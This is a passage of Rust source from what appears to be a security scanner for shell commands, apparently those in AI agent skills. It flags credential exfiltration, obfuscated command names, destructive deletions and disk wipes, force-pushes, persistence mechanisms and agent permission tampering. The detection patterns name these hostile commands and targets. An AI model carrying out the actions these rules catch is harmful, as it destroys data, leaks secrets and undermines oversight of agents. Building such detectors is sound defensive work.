            let direct = cmd.args.iter().find(|(a, n)| {
                !a.contains("://")
                    && (a.contains('@')
                        || matches!(
                            n.kind(),
                            "string" | "concatenation" | "command_substitution"
                        ))
                    && patterns::credential(a).is_some()
            });
            let via_subst = cmd.args.iter().any(|(_, n)| {
                let mut all = Vec::new();
                descendants(*n, &mut all);
                all.into_iter()
                    .any(|d| command(d, self.src).is_some_and(|c| reads_credentials(&c).is_some()))
            });
            let upload = cmd.args.iter().enumerate().any(|(i, (a, _))| {
                matches!(
                    a.as_str(),
                    "-T" | "--upload-file"
                        | "-F"
                        | "--form"
                        | "-d"
                        | "--data"
                        | "--data-binary"
                        | "--post-file"
                ) && cmd
                    .args
                    .get(i + 1)
                    .is_some_and(|(v, _)| !v.contains("://") && patterns::credential(v).is_some())
            });
            if direct.is_some() || via_subst || upload {
                self.carry.exfil_reported = true;
                self.push(
                    RuleId::CredentialExfiltration,
                    Severity::Critical,
                    node,
                    format!("`{name}` sends secrets over the network"),
                );
            }
        }
        if reads_credentials(&cmd) == Some(Credential::Private)
            && !matches!(name.as_str(), "env" | "printenv" | "export")
        {
            self.carry.private_reads.push(self.span(node));
        }
        self.destructive(&cmd);
        self.persistence(&cmd);
        for (a, n) in &cmd.args {
            if patterns::permissions_off(a).is_some() {
                self.push(
                    RuleId::AgentConfigTamper,
                    Severity::High,
                    *n,
                    format!("`{a}` turns the agent's permission checks off"),
                );
            }
        }
    }

    fn string_built(&mut self, cmd: &Cmd<'_>) {
        let Some(n) = cmd.name_node else { return };
        let n = if n.kind() == "command_name" {
            n.named_child(0).unwrap_or(n)
        } else {
            n
        };
        let raw = text(n, self.src);
        let built = match n.kind() {
            "ansi_c_string" => raw.contains("\\x") || raw.contains("\\0"),
            "concatenation" => {
                let mut c = n.walk();
                n.named_children(&mut c)
                    .filter(|p| {
                        matches!(
                            p.kind(),
                            "string"
                                | "raw_string"
                                | "ansi_c_string"
                                | "simple_expansion"
                                | "expansion"
                        )
                    })
                    .count()
                    >= 2
                    || raw.contains("\\x")
            }
            "command_substitution" => {
                if self.decodes_in(n) {
                    self.push(
                        RuleId::DecodeExec,
                        Severity::Critical,
                        cmd.node,
                        "runs a command whose name is decoded at run time".to_string(),
                    );
                    return;
                }
                // A name printed, reversed or translated (`$(echo lruc | rev)`), not any
                // substitution that mentions them (`$(git rev-parse --show-toplevel)/x.sh`).
                raw.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
                    .any(|w| matches!(w, "printf" | "rev" | "tr"))
            }
            "expansion" => {
                raw.contains(":") && raw.chars().filter(|c| c.is_ascii_digit()).count() >= 2
            }
            _ => false,
        };
        if built {
            let severity = if super::code::dangerous_name(&cmd.name) {
                Severity::High
            } else {
                Severity::Medium
            };
            // What it runs, when the pieces spell it (not when they are variables).
            let runs = if cmd.name.contains('$') || cmd.name == raw {
                String::new()
            } else {
                format!(" (it runs `{}`)", cmd.name)
            };
            self.push(
                RuleId::StringBuiltCommand,
                severity,
                cmd.node,
                format!("the command name `{raw}` is built from pieces{runs}"),
            );
        }
    }

    fn destructive(&mut self, cmd: &Cmd<'_>) {
        let name = cmd.name.as_str();
        let danger = |t: &str| {
            let t = t.trim_end_matches('/');
            matches!(
                t,
                "" | "/*"
                    | "~"
                    | "~/*"
                    | "$HOME"
                    | "${HOME}"
                    | "$HOME/*"
                    | "${HOME}/*"
                    | "/home"
                    | "/Users"
                    | "/usr"
                    | "/etc"
                    | "/var"
                    | "/bin"
                    | "/boot"
                    | "/lib"
                    | "/opt"
                    | "/root"
                    | "/System"
                    | "C:"
                    | "C:\\"
                    | "/*/"
            )
        };
        match name {
            "rm" => {
                let recursive =
                    cmd.has_flag('r', "--recursive") || cmd.has_flag('R', "--recursive");
                if cmd.args.iter().any(|(a, _)| a == "--no-preserve-root") {
                    self.push(
                        RuleId::DestructiveCommand,
                        Severity::Critical,
                        cmd.node,
                        "`rm --no-preserve-root` deletes the whole file system".to_string(),
                    );
                } else if recursive && let Some(t) = cmd.positional().find(|t| danger(t)) {
                    let t = if t.is_empty() { "/" } else { t };
                    self.push(
                        RuleId::DestructiveCommand,
                        Severity::Critical,
                        cmd.node,
                        format!("recursively deletes `{t}`, outside any project"),
                    );
                }
            }
            n if n.starts_with("mkfs") => {
                self.push(
                    RuleId::DestructiveCommand,
                    Severity::Critical,
                    cmd.node,
                    format!("`{n}` formats a disk"),
                );
            }
            "dd" => {
                if let Some((a, _)) = cmd.args.iter().find(|(a, _)| {
                    a.starts_with("of=/dev/")
                        && !a.starts_with("of=/dev/null")
                        && !a.starts_with("of=/dev/std")
                }) {
                    self.push(
                        RuleId::DestructiveCommand,
                        Severity::Critical,
                        cmd.node,
                        format!("`dd {a}` writes over a device"),
                    );
                }
            }
            "shred" | "wipefs" if cmd.positional().any(|a| a.starts_with("/dev/")) => {
                self.push(
                    RuleId::DestructiveCommand,
                    Severity::Critical,
                    cmd.node,
                    format!("`{name}` wipes a device"),
                );
            }
            "chmod" | "chown"
                if cmd.has_flag('R', "--recursive") && cmd.positional().skip(1).any(&danger) =>
            {
                self.push(
                    RuleId::DestructiveCommand,
                    Severity::High,
                    cmd.node,
                    format!("`{name} -R` on a system or home directory"),
                );
            }
            "find"
                if cmd.positional().next().is_some_and(danger)
                    && cmd.args.iter().any(|(a, _)| a == "-delete") =>
            {
                self.push(
                    RuleId::DestructiveCommand,
                    Severity::Critical,
                    cmd.node,
                    "`find -delete` over a system or home directory".to_string(),
                );
            }
            "git" => {
                let args: Vec<&str> = cmd.args.iter().map(|(a, _)| a.as_str()).collect();
                if args.first() == Some(&"push")
                    && args.iter().any(|a| {
                        *a == "-f"
                            || *a == "--force"
                            || (a.starts_with('-') && !a.starts_with("--") && a.contains('f'))
                    })
                    && args.iter().any(|a| {
                        let r = a.trim_start_matches('+');
                        matches!(
                            r,
                            "main" | "master" | "HEAD:main" | "HEAD:master" | "trunk" | "develop"
                        ) || r.ends_with(":main")
                            || r.ends_with(":master")
                    })
                {
                    self.push(
                        RuleId::ForcePush,
                        Severity::High,
                        cmd.node,
                        "force-pushes the default branch".to_string(),
                    );
                }
                if args.first() == Some(&"push")
                    && args
                        .iter()
                        .any(|a| a.starts_with("+main") || a.starts_with("+master"))
                {
                    self.push(
                        RuleId::ForcePush,
                        Severity::High,
                        cmd.node,
                        "force-pushes the default branch (a `+` refspec)".to_string(),
                    );
                }
            }
            _ => {}
        }
    }

    fn persistence(&mut self, cmd: &Cmd<'_>) {
        let name = cmd.name.as_str();
        let args: Vec<&str> = cmd.args.iter().map(|(a, _)| a.as_str()).collect();
        match name {
            "crontab"
                if !(args == ["-l"]
                    || args.contains(&"-l")
                        && !args.iter().any(|a| *a == "-" || !a.starts_with('-'))) =>
            {
                self.push(
                    RuleId::Persistence,
                    Severity::High,
                    cmd.node,
                    "installs a crontab: code that runs again on a schedule".to_string(),
                );
            }
            "launchctl"
                if args
                    .iter()
                    .any(|a| matches!(*a, "load" | "bootstrap" | "submit" | "enable")) =>
            {
                self.push(
                    RuleId::Persistence,
                    Severity::High,
                    cmd.node,
                    "loads a launchd job: code that runs at login or on a schedule".to_string(),
                );
            }
            "systemctl" if args.contains(&"enable") => {
                self.push(RuleId::Persistence, Severity::Medium, cmd.node, "enables a systemd unit: it runs at every boot or login (medium: a unit the skill does not write is usually a packaged service)".to_string());
            }
            "git"
                if args.first() == Some(&"config")
                    && args
                        .iter()
                        .any(|a| a.eq_ignore_ascii_case("core.hooksPath")) =>
            {
                self.push(
                    RuleId::Persistence,
                    Severity::High,
                    cmd.node,
                    "sets core.hooksPath: every later commit runs the hooks it points to"
                        .to_string(),
                );
            }
            "tee" | "cp" | "mv" | "ln" | "install" | "rsync" => {
                let targets: Vec<&str> = if name == "tee" {
                    cmd.positional().collect()
                } else {
                    cmd.positional().last().into_iter().collect()
                };
                for t in targets {
                    self.write_target(cmd.node, t, None);
                }
            }
            "sed" | "perl" if args.iter().any(|a| a.starts_with("-i")) => {
                for t in cmd.positional().skip(1) {
                    self.write_target(cmd.node, t, None);
                }
            }
            "claude" | "codex" | "gemini"
                if args.first() == Some(&"mcp") && args.get(1) == Some(&"add") =>
            {
                self.push(
                    RuleId::AgentConfigTamper,
                    Severity::Medium,
                    cmd.node,
                    format!("`{name} mcp add` adds an MCP server to the agent's configuration"),
                );
            }
            _ => {}
        }
    }
}
